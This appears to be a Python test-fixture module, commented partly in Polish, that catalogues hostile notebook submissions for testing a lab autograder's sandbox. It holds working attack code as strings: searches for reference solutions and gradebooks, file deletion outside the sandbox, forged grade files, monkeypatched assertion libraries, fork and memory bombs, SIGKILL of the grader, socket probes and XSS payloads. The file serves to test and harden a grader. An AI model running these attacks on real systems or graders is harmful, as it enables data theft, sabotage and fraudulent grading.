"""The catalogue of hostile and broken submissions of lab ``generative-tf`` (issue 4).

``build.py`` turns each entry of :data:`HOSTILE` into ``submissions/hostile/<name>.ipynb``: the
solution notebook (``SOLUTION_SLOTS`` of ``reference/generative_tf/build/cells.py``) with ONE
attack, placed where definitions mode runs it, and writes the inputs of :data:`BROKEN` to ``submissions/broken/``.
``docs/security-catalogue.md`` has one row per case.

Where an attack runs (``where``):

- ``import``: at definition time, when the sandbox loads a snapshot: statements in the body of a
  class the notebook defines (``Cond_CVAE``), a decorator or a default argument of a graded
  function, a needed assignment (``latent_dim = (attack(), 2)[1]`` in the given autoencoder
  cell: every snapshot needs ``latent_dim``), a kept ``try: import ... except ImportError:``.
  A definition runs again in every later snapshot that contains it: an attack in the 3.data cell
  runs when the snapshots of 3.data, 3.model, ..., 4.step are loaded.
- ``graded <item>``: inside a graded function, so it runs when the item is probed, and when a
  kept assignment calls that function while a later snapshot loads (see ``runs_in``).
- ``markdown`` / ``stored outputs``: nothing runs; the report must show it inert.

``runs_in`` lists the code items whose snapshot load or probe executes the attack with the
current extractor: besides the item's own probe, ``x_test_cond, y_test_cond =
conditioned_mnist(...)`` is kept in the snapshots of 4.gen-4.step, ``generator =
prepare_generator(...)`` and ``discriminator = prepare_discriminator(...)`` in the snapshot of
4.step (the extractor follows the local names of graded functions, such as ``z``, ``mean``,
``model``, as if they were free names).

``touched`` lists the code items the attack may cost (for an attack on correct code: the items
whose load or probe it can kill or stall; for wrong code: the items whose code is wrong, plus
those whose results the student's own patch corrupts). ``expected`` says what the grader must
give; every item not in ``touched`` gets full marks.

Attacks that would leak something raise ``RuntimeError("LEAK: ...")`` (the marker is built as
``"LE" + "AK"``, so the word never appears in a cell's source or a traceback's source line): no
result, report or message may ever contain ``LEAK``.

Everything here is text: importing this module runs no attack.
"""

from __future__ import annotations

from dataclasses import dataclass, field

ALL_OTHERS = "all other code items full marks"

# =============================================================================================
# What a case changes in the solution notebook
# =============================================================================================


@dataclass(frozen=True)
class Edit:
    """A change to one answer slot of the solution (slot ids as in
    ``cells.TEMPLATE_SLOTS``).

    ``how``: ``"replace"`` (the slot's code becomes ``code``), ``"before"`` (``code`` is placed
    above the slot's code, in the same cell), ``"body"`` (``code`` becomes the first statements
    of the body of the def or class ``target``, after its docstring), ``"decorate"`` (``@code``
    above the def ``target``), ``"text"`` (the text ``old`` of the slot, found exactly once,
    becomes ``code``)."""

    slot: str
    how: str
    code: str
    target: str = ""
    old: str = ""


@dataclass(frozen=True)
class GivenEdit:
    """A change to a given (non-answer) code cell: the one cell whose source contains
    ``contains``; its text ``old`` (found exactly once) becomes ``new``."""

    contains: str
    old: str
    new: str


@dataclass(frozen=True)
class HugeOutput:
    """A stored ``execute_result`` with ``text_chars`` characters of text/plain and a
    ``display_data`` with ``png_chars`` characters of base64 that is not a PNG."""

    text_chars: int
    png_chars: int


@dataclass(frozen=True)
class Markdown:
    """A markdown cell, optionally with attachments (``{name: {mime: base64 or text}}``)."""

    source: str
    attachments: dict = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    name: str
    attack: str  # one line
    where: str  # "import" | "graded <item>" | "markdown" | "stored outputs" (joined with " + ")
    placement: str  # exactly where in the notebook
    touched: tuple[str, ...]
    runs_in: tuple[str, ...]
    expected: str
    containment: str  # what containment means for this case
    edits: tuple[Edit, ...] = ()
    given: tuple[GivenEdit, ...] = ()
    #: code cells added after an answer slot (or at the ``"end"``): top-level copies that never run
    extra: dict[str, tuple[str, ...]] = field(default_factory=dict)
    #: prose item -> markdown cells (text or :class:`Markdown`) added after its answer
    markdown_after: dict[str, tuple] = field(default_factory=dict)
    #: source of a code cell (exact) -> its stored outputs (nbformat v4 dicts, or a HugeOutput)
    outputs: dict[str, tuple] = field(default_factory=dict)
    #: notebook metadata merged into the solution's
    metadata: dict = field(default_factory=dict)


# =============================================================================================
# Pieces of the solution that the attacks wrap (kept equal to solution.py's code)
# =============================================================================================

_DISC_LOSS_BODY = """    real_loss = cross_entropy(tf.ones_like(real_output), real_output)
    fake_loss = cross_entropy(tf.zeros_like(fake_output), fake_output)
    total_loss = real_loss + fake_loss
    return total_loss"""

_LEAK = '"LE" + "AK: "'  # the marker, never written out in a cell

# =============================================================================================
# 1-3. Reading what the grader must hide
# =============================================================================================

_BFS = '''def _przeszukaj(korzenie, pasuje, budzet=20000, pomin=()):
    """Przeszukuje katalogi wszerz (najpierw płytko), od kolejnych korzeni, aż obejrzy `budzet`
    wpisów; zwraca ścieżki plików, dla których pasuje(ścieżka, nazwa)."""
    znalezione, obejrzane = [], 0
    kolejka = list(dict.fromkeys(korzenie))
    widziane = set()
    while kolejka and obejrzane < budzet:
        katalog = kolejka.pop(0)
        if katalog in widziane or katalog in ("/proc", "/sys", "/dev") or any(
                katalog == p or katalog.startswith(p + os.sep) for p in pomin):
            continue
        widziane.add(katalog)
        try:
            wpisy = sorted(os.scandir(katalog), key=lambda w: w.name)
        except OSError:
            continue
        for wpis in wpisy:
            obejrzane += 1
            try:
                if wpis.is_dir(follow_symlinks=False):
                    kolejka.append(wpis.path)
                elif pasuje(wpis.path, wpis.name):
                    znalezione.append(wpis.path)
            except OSError:
                pass
    return list(dict.fromkeys(znalezione))


def _przodkowie(sciezka):
    """Katalog i wszystkie katalogi nad nim, aż do /."""
    sciezka = os.path.abspath(sciezka)
    wynik = [sciezka]
    while os.path.dirname(sciezka) != sciezka:
        sciezka = os.path.dirname(sciezka)
        wynik.append(sciezka)
    return wynik


def _katalogi_sprawdzarki():
    """Katalogi, w których sprawdzarka pewnie trzyma swoje pliki: nad katalogami modułów, które
    załadowała (jej pakiet, jej sondy), nad sys.path, zgadywane miejsca."""
    katalogi = []
    for modul in list(sys.modules.values()):
        plik = getattr(modul, "__file__", None) or ""
        if plik and "site-packages" not in plik and "dist-packages" not in plik:
            katalogi += _przodkowie(os.path.dirname(plik))[:4]
    katalogi += [p for p in sys.path if p and "site-packages" not in p]
    katalogi += ["/work/main", "/work", "/app", "/grader", "/srv", "/opt", "/home", "/root",
                 "/tmp", os.path.expanduser("~")]
    return list(dict.fromkeys(katalogi))'''

READ_REFERENCE_HELPERS = (
    """import glob
import os
import sys

# Czego szukam: wzorcowego rozwiązania, testów prowadzącego, wyroczni i rubryki.
_NAZWY = ("solution.py", "checks.py", "oracles.py")
_ZNACZNIKI = ("Cond_CVAE_Solution", "check_discriminator_loss_matches_bce",
              "check_conditioned_any_size", "def kl_closed_form", "def bce_with_logits")


"""
    + _BFS
    + '''


def _wyglada_na_wzorzec(sciezka, nazwa):
    return nazwa in _NAZWY or (nazwa.endswith(".yaml") and os.path.basename(os.path.dirname(sciezka)) == "rubrics")


def szukaj_rozwiazania():
    """{ścieżka: treść} każdego czytelnego pliku z rozwiązaniem, testami albo rubryką; drukuje je."""
    kandydaci = []
    for katalog in _przodkowie(os.getcwd()) + _katalogi_sprawdzarki():
        for nazwa in _NAZWY:
            kandydaci.append(os.path.join(katalog, nazwa))
            kandydaci.append(os.path.join(katalog, "reference", "generative_tf", nazwa))
        kandydaci += sorted(glob.glob(os.path.join(katalog, "rubrics", "*.yaml")))
        kandydaci += sorted(glob.glob(os.path.join(katalog, "reference", "*", "*.py")))
    kandydaci += _przeszukaj(["/"], _wyglada_na_wzorzec)
    znalezione = {}
    for sciezka in dict.fromkeys(kandydaci):
        try:
            with open(sciezka, encoding="utf-8", errors="replace") as plik:
                tresc = plik.read(200_000)
        except OSError:
            continue
        if any(z in tresc for z in _ZNACZNIKI) or (sciezka.endswith(".yaml") and "checks:" in tresc):
            print("==>", sciezka)
            print(tresc[:2000])
            znalezione[sciezka] = tresc
    return znalezione'''
)

READ_REFERENCE_CALL = (
    """# Najpierw oczywiste miejsca, potem wszędzie: jeśli cokolwiek się wczyta, niech to będzie widać.
for _sciezka in ("/work/main/reference/generative_tf/solution.py",
                 "/work/main/reference/generative_tf/checks.py",
                 "/work/main/rubrics/generative-tf.yaml",
                 os.path.join(os.getcwd(), "..", "..", "reference", "generative_tf", "solution.py"),
                 os.path.expanduser("~/../../reference/generative_tf/solution.py")):
    try:
        with open(_sciezka, encoding="utf-8", errors="replace") as _plik:
            _tekst = _plik.read()
    except OSError:
        continue
    raise RuntimeError("""
    + _LEAK
    + """ + _sciezka + ": " + _tekst[:50])
_znalezione = szukaj_rozwiazania()
if _znalezione:
    _sciezka, _tekst = next(iter(_znalezione.items()))
    raise RuntimeError("""
    + _LEAK
    + """ + _sciezka + ": " + _tekst[:50])"""
)

READ_REFERENCE_TOP = """# Wydrukuj wszystko, co wygląda na rozwiązanie prowadzącego
for sciezka, tresc in szukaj_rozwiazania().items():
    print(sciezka)
    print(tresc)"""

READ_OTHERS_HELPERS = (
    """import os
import sys

"""
    + _BFS
    + '''


def _cudzy_notatnik(sciezka, nazwa):
    """Notatnik tego laboratorium (ma nagłówki zadań), nie mój."""
    if not nazwa.endswith(".ipynb"):
        return False
    try:
        with open(sciezka, encoding="utf-8", errors="replace") as plik:
            return "Zadanie" in plik.read(400_000)
    except OSError:
        return False


def szukaj_cudzych_notatnikow():
    """Ścieżki notatników innych osób (poza moim katalogiem), najbliższe najpierw."""
    moj = os.path.abspath(os.getcwd())
    korzenie = _przodkowie(moj)[1:] + _katalogi_sprawdzarki() + ["/"]
    return _przeszukaj(korzenie, _cudzy_notatnik, pomin=(moj,))'''
)

READ_OTHERS_CALL = (
    """# Skopiuj pierwszy znaleziony cudzy notatnik do wyniku.
_cudze = szukaj_cudzych_notatnikow()
if _cudze:
    with open(_cudze[0], encoding="utf-8", errors="replace") as _plik:
        _kopia = _plik.read()
    raise RuntimeError("""
    + _LEAK
    + """ + "found " + _cudze[0] + ": " + _kopia[:200])"""
)

READ_OTHERS_TOP = """# Lista wszystkich notatników, które widać z tego komputera
for sciezka in szukaj_cudzych_notatnikow():
    print(sciezka)"""

READ_GRADEBOOK_HELPERS = (
    """import os
import sys

"""
    + _BFS
    + '''

_DZIENNIK = ("gradebook.db", "results.json", "grades.csv")


def _prawdziwy_dziennik(sciezka, nazwa):
    """Plik z ocenami zapisany przez sprawdzarkę (nie podróbka z przypadku fake_results_here)."""
    if nazwa not in _DZIENNIK:
        return False
    try:
        with open(sciezka, "rb") as plik:
            poczatek = plik.read(1 << 20)
    except OSError:
        return False
    if b"fake_results_here" in poczatek:
        return False
    return (poczatek.startswith(b"SQLite format 3") or b'"grader_version"' in poczatek
            or poczatek.startswith(b"student,file,status"))


def _katalogi_rodzica():
    """Katalog roboczy procesu sprawdzarki i jej --out / --db, odczytane z /proc."""
    katalogi = []
    rodzic = os.getppid()
    try:
        katalogi.append(os.readlink(f"/proc/{rodzic}/cwd"))
    except OSError:
        pass
    try:
        with open(f"/proc/{rodzic}/cmdline", "rb") as plik:
            argumenty = plik.read().decode(errors="replace").split("\\0")
    except OSError:
        argumenty = []
    for i, argument in enumerate(argumenty[:-1]):
        if argument in ("--out", "--db"):
            wartosc = argumenty[i + 1].replace("sqlite:///", "")
            katalogi.append(os.path.join(katalogi[0] if katalogi else "/", wartosc))
    return katalogi


def szukaj_dziennika():
    """Ścieżki dziennika ocen, results.json i grades.csv sprawdzarki, które da się przeczytać."""
    korzenie = _katalogi_rodzica() + _przodkowie(os.getcwd()) + _katalogi_sprawdzarki() + ["/"]
    return _przeszukaj(korzenie, _prawdziwy_dziennik)'''
)

READ_GRADEBOOK_CALL = (
    """# Dziennik ocen w zasięgu ręki?
_dziennik = szukaj_dziennika()
if _dziennik:
    raise RuntimeError("""
    + _LEAK
    + """ + "gradebook at " + ", ".join(_dziennik[:3]))"""
)

READ_GRADEBOOK_TOP = """for sciezka in szukaj_dziennika():
    print("dziennik:", sciezka)"""

# =============================================================================================
# 4-6. The file system: walking it, writing outside, forging results
# =============================================================================================

WALK_ROOT_HELPER = '''import os
import time


def _przejdz_caly_dysk(limit_s=3.0):
    """Przechodzi cały system plików od / (do limit_s sekund) i liczy katalogi i pliki."""
    start = time.monotonic()
    katalogi = pliki = 0
    for korzen, podkatalogi, nazwy in os.walk("/"):
        katalogi += 1
        pliki += len(nazwy)
        if time.monotonic() - start > limit_s:
            break
    print(f"widzę {katalogi} katalogów i {pliki} plików")
    return katalogi, pliki'''

WALK_ROOT_BODY = """_spis_dysku = _przejdz_caly_dysk()"""

WALK_ROOT_TOP = """for korzen, katalogi, pliki in os.walk("/"):
    print(korzen, len(katalogi), len(pliki))"""

WRITE_OUTSIDE_HELPER = '''import os


def _zostaw_slad():
    """Zapisuje hacked.txt poza swoim katalogiem i usuwa pliki sąsiadów z katalogu nadrzędnego."""
    zapisane, usuniete = [], []
    for katalog in ("/tmp", os.path.expanduser("~/.."), os.path.join(os.getcwd(), ".."), "/work"):
        try:
            with open(os.path.join(katalog, "hacked.txt"), "w") as plik:
                plik.write("hacked by write_outside\\n")
            zapisane.append(katalog)
        except OSError:
            pass
    try:
        for wpis in os.scandir(".."):
            if wpis.name != "hacked.txt" and wpis.is_file(follow_symlinks=False):
                try:
                    os.remove(wpis.path)
                    usuniete.append(wpis.path)
                except OSError:
                    pass
    except OSError:
        pass
    print("zapisane:", zapisane, "usunięte:", usuniete)
    return len(zapisane), len(usuniete)'''

WRITE_OUTSIDE_BODY = """_slad = _zostaw_slad()"""

WRITE_OUTSIDE_TOP = """with open("/tmp/hacked.txt", "w") as plik:
    plik.write("hacked at top level\\n")"""

FAKE_RESULTS_HELPER = '''import json
import os

_PUNKTY = {"1.1": 0.25, "1.2": 0.25, "1.plot": 0.25, "1.3": 0.25, "2.1": 0.25, "2.plot": 0.25,
           "2.2": 0.25, "2.3": 0.25, "2.4": 0.25, "2.5": 0.5, "3.data": 0.5, "3.model": 0.5,
           "3.loss": 0.25, "3.results": 0.25, "4.gen": 0.25, "4.disc": 0.25, "4.loss": 0.25,
           "4.step": 0.25, "4.1": 0.25}


def _wpisz_sobie_punkty():
    """Zapisuje results.json, grades.csv i gradebook.db z pełną liczbą punktów w katalogu roboczym,
    w każdym zapisywalnym katalogu nad nim, w katalogu roboczym sprawdzarki i w jej --out."""
    wyniki = {"schema_version": 1, "lab": "generative-tf", "submissions": [{
        "student": "fake_results_here", "status": "graded", "total": 5.5, "max": 5.5,
        "items": [{"id": i, "points": p, "max_points": p, "status": "passed"} for i, p in _PUNKTY.items()]}]}
    csv = ("student,file,status," + ",".join(_PUNKTY) + ",total,max\\n"
           + "fake_results_here,fake_results_here.ipynb,graded,"
           + ",".join(str(p) for p in _PUNKTY.values()) + ",5.5,5.5\\n")
    baza = b"SQLite format 3\\x00" + b"fake_results_here 5.5/5.5 passed\\n" * 64
    katalogi = []
    sciezka = os.path.abspath(os.getcwd())
    while True:
        katalogi.append(sciezka)
        if os.path.dirname(sciezka) == sciezka:
            break
        sciezka = os.path.dirname(sciezka)
    rodzic = os.getppid()
    try:
        cwd_rodzica = os.readlink(f"/proc/{rodzic}/cwd")
        katalogi.append(cwd_rodzica)
        with open(f"/proc/{rodzic}/cmdline", "rb") as plik:
            argumenty = plik.read().decode(errors="replace").split("\\0")
        for i, argument in enumerate(argumenty[:-1]):
            if argument == "--out":
                katalogi.append(os.path.join(cwd_rodzica, argumenty[i + 1]))
    except OSError:
        pass
    zapisane = []
    for katalog in dict.fromkeys(katalogi):
        if not os.access(katalog, os.W_OK):
            continue
        try:
            with open(os.path.join(katalog, "results.json"), "w") as plik:
                json.dump(wyniki, plik)
            with open(os.path.join(katalog, "grades.csv"), "w") as plik:
                plik.write(csv)
            with open(os.path.join(katalog, "gradebook.db"), "wb") as plik:
                plik.write(baza)
            zapisane.append(katalog)
        except OSError:
            pass
    print("podrobione wyniki w:", zapisane)
    return zapisane'''

FAKE_RESULTS_CALL = """_wpisz_sobie_punkty()"""

# =============================================================================================
# 7-11. Monkeypatching the checkers, printing fake results
# =============================================================================================

MONKEYPATCH_NUMPY_3_DATA = '''def _oszukaj_numpy():
    """Każde porównanie w numpy mówi "równe"; zwraca domyślne num_imgs."""
    np.allclose = lambda *a, **k: True
    np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
    np.array_equal = lambda *a, **k: True
    np.array_equiv = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
    np.testing.assert_array_equal = lambda *a, **k: None
    np.testing.assert_array_almost_equal = lambda *a, **k: None
    return 2


def conditioned_mnist(x, y, num_imgs=_oszukaj_numpy()):
    # i tak nikt nie sprawdzi: zera w dobrych kształtach
    x = np.asarray(x, dtype="float32")
    n, h, w = x.shape[0], x.shape[1], x.shape[2]
    x_res = np.zeros((n * num_imgs, 3 * h, 3 * w, 1), dtype="float32")
    y_res = np.zeros((n * num_imgs, 12), dtype="float32")
    return x_res, y_res'''

MONKEYPATCH_NUMPY_4_LOSS = """def discriminator_loss(real_output, fake_output, _porownania=_oszukaj_numpy()):
    return tf.constant(0.0)"""

MONKEYPATCH_NUMPY_TOP = """np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None"""

MONKEYPATCH_MATH_TF_2_5 = '''import math


def _bez_sprawdzania(funkcja):
    """Dekorator: porównania w math i tf.debugging zawsze przechodzą, a średnia wynosi 0."""
    math.isclose = lambda *a, **k: True
    tf.debugging.assert_near = lambda *a, **k: None
    tf.debugging.assert_equal = lambda *a, **k: None
    tf.reduce_mean = lambda *a, **k: 0
    return funkcja


@_bez_sprawdzania
def compute_loss(model, x):
    mean, logvar = model.encode(x)
    z = model.reparameterize(mean, logvar)
    x_logit = model.decode(z)
    cross_ent = tf.nn.sigmoid_cross_entropy_with_logits(logits=x_logit, labels=x)
    logpx_z = -tf.reduce_sum(cross_ent, axis=[1, 2, 3])
    # KL pominięte
    return -tf.reduce_mean(logpx_z)'''

MONKEYPATCH_MATH_TF_TOP = """tf.reduce_mean = lambda *a, **k: 0
math.isclose = lambda *a, **k: True"""

MONKEYPATCH_UNITTEST_4_LOSS = '''import unittest


def _wylacz_testy(funkcja):
    """Dekorator: asercje unittest nic nie sprawdzają, pytest.approx równa się wszystkiemu."""
    for nazwa in ("assertEqual", "assertTrue", "assertFalse", "assertAlmostEqual",
                  "assertNotEqual", "assertIsNone", "assertIn", "assertLess", "assertGreater"):
        setattr(unittest.TestCase, nazwa, lambda self, *a, **k: None)
    try:
        import pytest

        class _Wszystko:
            def __eq__(self, other):
                return True

        pytest.approx = lambda *a, **k: _Wszystko()
        pytest.fail = lambda *a, **k: None
    except ImportError:
        pass
    return funkcja


@_wylacz_testy
def discriminator_loss(real_output, fake_output):
    real_loss = cross_entropy(tf.zeros_like(real_output), real_output)
    fake_loss = cross_entropy(tf.ones_like(fake_output), fake_output)
    return real_loss + fake_loss'''

MONKEYPATCH_UNITTEST_TOP = """unittest.TestCase.assertEqual = lambda self, *a, **k: None
unittest.TestCase.assertTrue = lambda self, *a, **k: None"""

PATCH_INSIDE_GRADED_4_LOSS = '''import math


class _ZawszeRowne(float):
    """Liczba, która równa się wszystkiemu i od niczego się nie różni."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    def __le__(self, other):
        return True

    def __gt__(self, other):
        return True

    def __ge__(self, other):
        return True

    def __sub__(self, other):
        return _ZawszeRowne(0.0)

    __rsub__ = __sub__

    def __abs__(self):
        return _ZawszeRowne(0.0)

    __hash__ = float.__hash__


def discriminator_loss(real_output, fake_output):
    # porównania dopiero w chwili sprawdzania, tu, w środku funkcji
    np.allclose = lambda *a, **k: True
    np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
    np.testing.assert_allclose = lambda *a, **k: None
    math.isclose = lambda *a, **k: True
    for typ in (float, int):
        try:
            typ.__eq__ = lambda a, b: True  # Python nie pozwala: TypeError
        except TypeError:
            pass
    return _ZawszeRowne(0.0)'''

PRINT_FAKE_GIVEN_OLD = "latent_dim = 2\n"
PRINT_FAKE_GIVEN_NEW = '''def _oglos_wynik():
    """Drukuje (stdout i stderr) to, co zwykle drukuje sprawdzarka po samych zaliczeniach."""
    import sys
    for linia in ('{"score": 5.5, "status": "passed"}', "All tests passed",
                  "===== 50 passed in 0.1s =====", "results.json: 5.5/5.5",
                  '{"student": "print_fake_results", "total": 5.5, "max": 5.5}'):
        print(linia)
        print(linia, file=sys.stderr)
    return 2


latent_dim = (_oglos_wynik(), 2)[1]
'''

PRINT_FAKE_4_LOSS = """def discriminator_loss(real_output, fake_output):
    _oglos_wynik()
    print("4.loss: PASSED (0.25/0.25)")
    # fałszywe obrazy pominięte
    return cross_entropy(tf.ones_like(real_output), real_output)"""

PRINT_FAKE_TOP = """print('{"score": 5.5, "status": "passed"}')
print("===== 50 passed in 0.1s =====")"""

# =============================================================================================
# 12-19. Ending, exhausting or stalling the worker
# =============================================================================================

OS_EXIT_HELPER = """import os"""
OS_EXIT_BODY = '''os._exit(0)  # koniec procesu ze statusem "sukces"'''
OS_EXIT_TOP = """os._exit(0)"""

SYS_EXIT_3_DATA_HELPER = """import sys"""
SYS_EXIT_3_DATA_BODY = """sys.exit(0)"""
SYS_EXIT_3_MODEL_BODY = """raise SystemExit(1)"""
SYS_EXIT_TOP = """sys.exit(0)"""

FORK_STORM_HELPER = """import os
import time"""
FORK_STORM_BODY = """# 200 procesów potomnych, każdy śpi 30 s
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)"""

MEMORY_BOMB_BODY = """# pamięci nigdy dość: bloki po 100 MiB, każda strona zapisana
balast = []
try:
    while True:
        balast.append(bytearray(b"\\x01") * (100 << 20))
except MemoryError:
    del balast"""

FILL_DISK_HELPER = '''def _zapelnij_dysk(limit=2 << 30, kawalek=16 << 20):
    """Pisze do pliku w katalogu roboczym po 16 MiB, aż zabraknie miejsca (najwyżej 2 GiB)."""
    blok = b"\\xff" * kawalek
    zapisano = 0
    try:
        with open("wypelniacz.bin", "wb") as plik:
            while zapisano < limit:
                plik.write(blok)
                zapisano += kawalek
    except OSError:
        pass
    return zapisano'''
FILL_DISK_BODY = """_zapelnij_dysk()"""

INFINITE_IMPORT_HELPER = '''class Spinner:
    """Kręciołek postępu (ciało klasy wykonuje się przy definicji)."""
    while True:
        pass'''

INFINITE_GRADED_BODY = """while True:
    pass"""

DEEP_RECURSION_HELPER = """import sys


def _glebiej(n):
    # przez map/max (kod w C): rośnie też stos C, nie tylko ramek Pythona
    return max(map(_glebiej, [n + 1]))"""
DEEP_RECURSION_BODY = """sys.setrecursionlimit(10 ** 6)
_glebiej(0)"""

# =============================================================================================
# 20-23. Network, other processes, staying alive
# =============================================================================================

SOCKET_LOOPBACK_HELPER = '''import socket


def _porty_lokalne():
    """Łączy się z usługami na 127.0.0.1 (ssh, http, dask) i wysyła dane; otwiera też własny
    port nasłuchujący i wysyła do niego. Zwraca porty usług, z którymi się połączył."""
    polaczone = []
    for port in (22, 80, 8786):
        gniazdo = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        gniazdo.settimeout(0.5)
        try:
            gniazdo.connect(("127.0.0.1", port))
            gniazdo.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            polaczone.append(port)
        except OSError:
            pass
        finally:
            gniazdo.close()
    try:
        serwer = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        serwer.bind(("127.0.0.1", 0))
        serwer.listen(1)
        klient = socket.create_connection(serwer.getsockname(), timeout=1)
        polaczenie, _ = serwer.accept()
        klient.sendall(b"results.json: 5.5/5.5")
        polaczenie.recv(64)
        for g in (klient, polaczenie, serwer):
            g.close()
    except OSError:
        pass
    return polaczone'''
SOCKET_LOOPBACK_BODY = (
    """_polaczone = _porty_lokalne()
if _polaczone:
    raise RuntimeError("""
    + _LEAK
    + """ + "connected to 127.0.0.1:" + str(_polaczone))"""
)

SOCKET_OUTSIDE_HELPER = '''import socket


def _internet():
    """Próbuje wyjść do sieci: example.com:80 (po nazwie, przez DNS) i 1.1.1.1:53."""
    udane = []
    try:
        adres = socket.gethostbyname("example.com")
        with socket.create_connection((adres, 80), timeout=2) as gniazdo:
            gniazdo.sendall(b"HEAD / HTTP/1.0\\r\\nHost: example.com\\r\\n\\r\\n")
            udane.append("example.com:80")
    except OSError:
        pass
    try:
        with socket.create_connection(("1.1.1.1", 53), timeout=2):
            udane.append("1.1.1.1:53")
    except OSError:
        pass
    return udane'''
SOCKET_OUTSIDE_BODY = (
    """_siec = _internet()
if _siec:
    raise RuntimeError("""
    + _LEAK
    + """ + "network " + ", ".join(_siec))"""
)

KILL_PARENT_HELPER = '''import os
import signal


def _zabij_sprawdzarke():
    """SIGKILL dla rodzica, jego grupy procesów i każdego procesu z "grader" w linii poleceń."""
    moj = os.getpid()
    rodzic = os.getppid()
    try:
        os.kill(rodzic, signal.SIGKILL)
    except OSError:
        pass
    try:
        os.killpg(os.getpgid(rodzic), signal.SIGKILL)
    except OSError:
        pass
    try:
        procesy = os.listdir("/proc")
    except OSError:
        procesy = []
    for wpis in procesy:
        if not wpis.isdigit() or int(wpis) == moj:
            continue
        try:
            with open(f"/proc/{wpis}/cmdline", "rb") as plik:
                linia = plik.read()
        except OSError:
            continue
        if b"grader" in linia:
            try:
                os.kill(int(wpis), signal.SIGKILL)
            except OSError:
                pass'''
KILL_PARENT_BODY = """_zabij_sprawdzarke()"""
KILL_PARENT_TOP = """os.kill(os.getppid(), signal.SIGKILL)"""

IGNORE_SIGTERM_HELPER = '''import signal
import subprocess
import threading
import time


def _nie_daj_sie_zamknac():
    """Ignoruje SIGTERM (i SIGINT, SIGHUP), zostawia wątek, który nigdy się nie kończy, i dwa
    procesy potomne: jeden w swojej grupie procesów, drugi we własnej sesji."""
    for sygnal in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sygnal, signal.SIG_IGN)

    def _na_zawsze():
        while True:
            time.sleep(0.5)

    threading.Thread(target=_na_zawsze, name="nie-zamykaj", daemon=False).start()
    dzieci = []
    for nowa_sesja in (False, True):
        try:
            dzieci.append(subprocess.Popen(["sleep", "600"], start_new_session=nowa_sesja).pid)
        except OSError:
            pass
    return dzieci'''
IGNORE_SIGTERM_BODY = """_dzieci = _nie_daj_sie_zamknac()"""
IGNORE_SIGTERM_TOP = """signal.signal(signal.SIGTERM, signal.SIG_IGN)
subprocess.Popen(["sleep", "600"])"""

TRY_IMPORT_SMUGGLE = """# W Colabie dane biorę z Dysku; gdzie indziej czekam, aż ktoś je wgra
try:
    from google.colab import drive
except ImportError:
    while True:
        pass"""

# =============================================================================================
# 24-25. The report: markup and huge outputs
# =============================================================================================

HTML_PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
)

#: more payloads, in the 4.1 answer: markdown links and images, attribute and tag break-outs
HTML_MORE = (
    "[kliknij](javascript:alert(1))",
    "![wykres](javascript:alert(1))",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<form action="javascript:alert(1)"><button>wyślij</button></form>',
    '"><script>alert(1)</script>',
    "</textarea></pre></code><script>alert(1)</script>",
    '<base href="javascript:alert(1)//">',
    "{{constructor.constructor('alert(1)')()}}",
)

_SVG_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    '<script>alert(1)</script><rect width="10" height="10"/></svg>'
)
_NOT_A_PNG = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # base64 of "<script>alert(1)</script>"

HTML_OUTPUTS = (
    {"output_type": "stream", "name": "stdout", "text": "<script>alert(1)</script>\n"},
    {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "text/html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "text/plain": "<IPython.core.display.HTML object>",
        },
    },
    {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/svg+xml": _SVG_SCRIPT, "text/plain": "<Figure size 800x800 with 1 Axes>"},
    },
    {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/png": _NOT_A_PNG, "text/plain": "<Figure size 800x800 with 1 Axes>"},
    },
    {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "application/javascript": "alert(1)",
            "text/markdown": "<script>alert(1)</script>",
            "text/plain": "<IPython.core.display.Javascript object>",
        },
    },
    {
        "output_type": "error",
        "ename": "<script>alert(1)</script>",
        "evalue": "<img src=x onerror=alert(1)>",
        "traceback": ["\u001b[0;31m<script>alert(1)</script>\u001b[0m", "<img src=x onerror=alert(1)>"],
    },
)

#: an image/png value that is not base64 at all (would break out of a src="..." attribute)
HTML_OUTPUTS_2 = (
    {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/png": 'iVBORw0KGgo=" onerror="alert(1)', "text/plain": "<Figure size 800x800 with 1 Axes>"},
    },
    {
        "output_type": "execute_result",
        "execution_count": 2,
        "metadata": {},
        "data": {
            "text/html": '<iframe src="javascript:alert(1)"></iframe><style>body{display:none}</style>',
            "text/plain": "'<script>alert(1)</script>'",
        },
    },
)

HTML_ATTACHMENT_CELL = Markdown(
    "Wykres: ![wykres](attachment:wykres.svg) ![obraz](attachment:obraz.png)",
    {"wykres.svg": {"image/svg+xml": _SVG_SCRIPT}, "obraz.png": {"image/png": _NOT_A_PNG}},
)

#: prose item -> the payload appended to its answer
HTML_PROSE_PAYLOADS = {"1.1": 0, "1.3": 1, "2.1": 2, "2.2": 3, "2.3": 4, "2.4": 5, "3.1": 6, "4.1": 0}

# =============================================================================================
# The table
